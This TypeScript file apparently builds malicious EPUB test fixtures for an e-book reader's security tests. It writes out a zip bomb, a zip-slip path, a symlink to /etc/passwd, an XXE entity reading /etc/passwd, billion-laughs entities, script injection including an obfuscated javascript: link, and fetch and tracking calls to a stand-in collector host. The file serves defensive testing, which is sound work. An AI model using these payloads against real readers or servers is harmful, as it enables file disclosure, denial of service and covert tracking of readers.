import { buildEpub, epubEntries, packageDocument, type TestBook, xhtmlDocument } from './book.ts';
import { buildZip, deflatedZeros, type ZipEntry } from './zip.ts';

/** Hosts that cannot exist (RFC 2606) stand for an attacker's. */
const collector = 'https://collector.invalid';

/** An entry that inflates to `mebibytes` MiB from about a thousandth of that. */
export function bomb(mebibytes = 320): Uint8Array {
  const image: ZipEntry = { name: 'EPUB/image.png', method: 8, compressed: deflatedZeros(mebibytes) };
  return buildZip([
    ...epubEntries({ items: [{ id: 'image', href: 'image.png', mediaType: 'image/png' }] }),
    image,
  ]);
}

/** Headers that promise 100 bytes over data that inflates to 20 MiB. */
export function lyingSizes(): Uint8Array {
  const image: ZipEntry = {
    name: 'EPUB/image.png',
    method: 8,
    compressed: deflatedZeros(20),
    declaredSize: 100,
  };
  return buildZip([
    ...epubEntries({ items: [{ id: 'image', href: 'image.png', mediaType: 'image/png' }] }),
    image,
  ]);
}

/** A file name that climbs out of the folder it is unpacked into. */
export function zipSlip(name = '../../../slip-escaped.txt'): Uint8Array {
  return buildEpub({ entries: [{ name, data: 'escaped' }] });
}

/** A symbolic link to a file of the host, listed as a text of the book. */
export function symlinkEntry(target = '/etc/passwd'): Uint8Array {
  const link: ZipEntry = { name: 'EPUB/notes.txt', data: target, externalAttributes: (0o120777 << 16) >>> 0 };
  return buildZip([
    ...epubEntries({ items: [{ id: 'notes', href: 'notes.txt', mediaType: 'text/plain' }] }),
    link,
  ]);
}

/** The same name twice, with different content. */
export function duplicateEntry(): Uint8Array {
  const second = xhtmlDocument({ title: 'Chapter 1', body: '<h1>Chapter 1</h1><p>The other text.</p>' });
  return buildEpub({ entries: [{ name: 'EPUB/c1.xhtml', data: second, method: 8 }] });
}

/** A package document that asks for a file of the host through an external entity. */
export function xxe(): Uint8Array {
  return buildEpub(withDoctype('<!ENTITY leak SYSTEM "file:///etc/passwd">', '&leak;'));
}

/** A package document whose entities expand to 3 × 10⁹ characters. */
export function billionLaughs(): Uint8Array {
  const levels = Array.from({ length: 9 }, (_, level) => {
    const inner = level === 0 ? 'lol' : `&l${level - 1};`.repeat(10);
    return `<!ENTITY l${level} "${inner}">`;
  });
  return buildEpub(withDoctype(levels.join(''), '&l8;'));
}

/** A sound book with `count` small entries more. */
export function manyEntries(count: number): Uint8Array {
  return buildEpub({
    entries: Array.from({ length: count }, (_, index) => ({ name: `EPUB/x/${index}.txt`, data: 'x' })),
  });
}

/** Scripts in every place a book can put them; the text around them is harmless. */
export function scripted(): Uint8Array {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 600 900" onload="window.__ran='svg-onload'"><title>Cover</title><script>window.__ran='svg-script';fetch('${collector}')</script><rect width="600" height="900" fill="#345" onclick="alert(1)"/></svg>`;
  const body = `<p onclick="window.__ran='handler'">Before the script.</p>
<script>window.__ran='inline';document.title='changed'</script><script src="script.js"></script>
<p><a href="javascript:window.__ran='link'">A link</a></p>
<iframe srcdoc="&lt;script&gt;parent.__ran='srcdoc'&lt;/script&gt;"></iframe><p>After the script.</p>`;
  return buildEpub({
    chapters: [{ title: 'Chapter 1', body, properties: 'scripted' }],
    cover: { mediaType: 'image/svg+xml', data: svg, properties: 'scripted' },
    items: [{ id: 'js', href: 'script.js', mediaType: 'text/javascript', data: "window.__ran='file'" }],
  });
}

/** Everything that would tell a server that the book was opened. */
export function tracking(): Uint8Array {
  const body = `<p>Read on.</p><img src="${collector}/pixel.gif" alt=""/>
<img srcset="${collector}/p3.gif 1x, ${collector}/p4.gif 2x" alt=""/><p style="background:url(${collector}/style.gif)">Styled.</p>
<audio src="${collector}/a.mp3"></audio><video poster="${collector}/v.png"></video>
<p><a href="https://example.com/" ping="${collector}/ping">A link that stays</a></p>`;
  const css = `@import url("${collector}/more.css");\n@font-face { font-family: F; src: url(${collector}/f.woff2); }\np { color: #333; background: url(${collector}/css.gif); }\n`;
  return buildEpub({
    chapters: [{ title: 'Chapter 1', body, properties: 'remote-resources' }],
    items: [
      { id: 'css', href: 'style.css', mediaType: 'text/css', properties: 'remote-resources', data: css },
    ],
  });
}

/** A contents list whose links run scripts. */
export function javascriptNav(): Uint8Array {
  const entry = (href: string, label: string) => `<li><a href="${href}">${label}</a></li>`;
  const entries = [
    entry('c1.xhtml', 'Chapter 1'),
    entry('javascript:window.__ran=1', 'Chapter 2'),
    entry('JaVa&#10;ScRiPt:alert(document.domain)', 'Chapter 3'),
  ];
  const nav = `<nav epub:type="toc" id="toc"><h1>Contents</h1><ol>${entries.join('')}</ol></nav>`;
  return buildEpub({ navXhtml: xhtmlDocument({ title: 'Contents', body: nav }) });
}

/** The beginning of a JPEG file. */
export function notAZip(): Uint8Array {
  const bytes = new Uint8Array(2048).fill(0x55);
  bytes.set([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00]);
  return bytes;
}

/** A sound book whose end never arrived. */
export function truncated(): Uint8Array {
  const whole = buildEpub();
  return whole.subarray(0, Math.floor(whole.length * 0.6));
}

/** A chapter encrypted by a scheme that nobody here has the key of. */
export function drm(): Uint8Array {
  const encryption = `<?xml version="1.0" encoding="UTF-8"?>
<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" xmlns:enc="http://www.w3.org/2001/04/xmlenc#">
<enc:EncryptedData><enc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/>
<enc:CipherData><enc:CipherReference URI="EPUB/c1.xhtml"/></enc:CipherData></enc:EncryptedData>
</encryption>
`;
  const cipher = Uint8Array.from({ length: 512 }, (_, index) => (index * 167 + 89) & 0xff);
  const entries = epubEntries().map((entry) =>
    entry.name === 'EPUB/c1.xhtml' ? { ...entry, data: cipher } : entry,
  );
  return buildZip([...entries, { name: 'META-INF/encryption.xml', data: encryption, method: 8 }]);
}

/** A package document with this internal subset, whose title uses it. */
function withDoctype(subset: string, reference: string): TestBook {
  const xml = packageDocument()
    .replace('<package', `<!DOCTYPE package [${subset}]>\n<package`)
    .replace('<dc:title>', `<dc:title>${reference} `);
  return { packageXml: xml };
}
